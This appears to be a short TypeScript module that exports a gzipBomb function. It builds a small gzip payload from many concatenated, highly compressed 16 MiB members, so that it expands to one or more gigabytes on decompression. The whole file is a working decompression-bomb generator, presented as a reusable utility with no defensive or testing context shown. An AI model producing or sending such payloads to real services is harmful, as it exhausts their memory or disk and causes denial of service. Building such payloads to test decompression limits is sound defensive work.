import { gzipSync } from 'node:zlib'

const PART = 16 * 1024 * 1024

/** What is small and becomes a gigabyte: gzip takes several of its files, one after the other, for one. */
export function gzipBomb(letter = ' ', gigabytes = 1): Buffer {
  const part = gzipSync(Buffer.alloc(PART, letter), { level: 9 })
  return Buffer.concat(Array.from({ length: gigabytes * 64 }, () => part))
}
